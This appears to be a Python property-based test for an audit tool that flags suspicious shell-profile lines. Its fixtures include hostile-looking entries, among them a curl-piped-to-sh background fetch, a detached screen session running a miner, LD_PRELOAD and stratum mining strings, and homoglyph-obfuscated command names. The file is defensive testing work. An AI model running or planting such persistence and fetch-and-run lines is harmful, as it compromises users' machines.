"""The quick let-go in script_lines (could_hint) drops only lines the full test would drop too.

The reference is script_lines with the let-go switched off: both must keep the same lines of real
profiles on this host, of what people put in theirs, and of generated lines built from the words the
full test looks at (control words in front, closing words behind, a trailing `&`, letters that re's
case-insensitive match takes for ASCII ones)."""
from __future__ import annotations

import glob

from hypothesis import given, settings
from hypothesis import strategies as st

from audit_agent.collect.persistence import lines as fmt

PEOPLE = """\
alias ll='ls -alF'
export PATH="$HOME/.local/bin:$PATH"
if [ -f ~/.bash_aliases ]; then . ~/.bash_aliases; fi
[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"
if true; then /opt/x/run & fi
then ~/bin/agent --quiet &
nohup python train.py > log 2>&1
NOHUP=1 setsid sleep 1
case "$TERM" in xterm*) PS1="\\u@\\h" ;; esac
eval $(ssh-agent -s) >/dev/null
ſetsid ./w
dıſown
(cd /tmp && curl -s http://127.0.0.1:8/x | sh) &
screen -dmS s ./xmr
do ./y; done
function prompt() {
echo hello | tee -a log
SYSTEMCTL --user start miner
"""
WORDS = ["if", "then", "do", "else", "elif", "while", "!", "{", "(", "fi", "done", "; fi", ";done", "&", "&&", "|", "||",
         "./a", "/opt/b", "~/c", "$HOME/d", "${HOME}/e", "http://h/x", "curl", "CURL", "wget", "nohup", "setsid",
         "screen", "tmux", "base64", "xxd", "LD_PRELOAD=/l.so", "stratum+tcp://p:1", "disown", "crontab", "systemctl",
         "ſcreen", "diſown", "cur\u212al", "x=1", "export", "echo", "alias", "f()", "{", "}", "source", ".", "ls", "-la",
         "train.py", ";", "#", "`", "$(", ")", "\\"]


def reference(lines: list[str]) -> list[tuple[int, str]]:
    """script_lines with the let-go switched off."""
    quick = fmt.could_hint
    fmt.could_hint = lambda text: True
    try:
        return list(fmt.script_lines(lines, filtered=True))
    finally:
        fmt.could_hint = quick


def test_real_profiles_keep_the_same_lines():
    paths = ["/etc/profile", "/etc/bash.bashrc", *glob.glob("/etc/skel/.*"), *glob.glob("/etc/profile.d/*")]
    texts = [PEOPLE.splitlines()]
    for path in paths:
        try:
            with open(path, encoding="utf-8", errors="replace") as handle:
                texts.append(handle.read().splitlines())
        except OSError:
            continue
    for lines in texts:
        assert list(fmt.script_lines(lines, filtered=True)) == reference(lines)
    kept = [text for _, text in fmt.script_lines(PEOPLE.splitlines(), filtered=True)]
    assert "if true; then /opt/x/run & fi" in kept and "ſetsid ./w" in kept and "SYSTEMCTL --user start miner" in kept
    assert "alias ll='ls -alF'" not in kept and "export PATH=\"$HOME/.local/bin:$PATH\"" not in kept


def test_could_hint_lets_go_only_lines_without_any_hint():
    assert not fmt.could_hint("export EDITOR=vim")
    assert not fmt.could_hint("shopt -s histappend")
    assert fmt.could_hint("then nohup x") and fmt.could_hint("a | b") and fmt.could_hint("x &")
    assert fmt.could_hint("ſetsid x")          # not ASCII: left to the full test, which matches it


@settings(max_examples=400, deadline=None)
@given(st.lists(st.lists(st.sampled_from(WORDS), min_size=1, max_size=8).map(" ".join), min_size=1, max_size=12))
def test_generated_lines_keep_the_same_lines(lines):
    assert list(fmt.script_lines(lines, filtered=True)) == reference(lines)
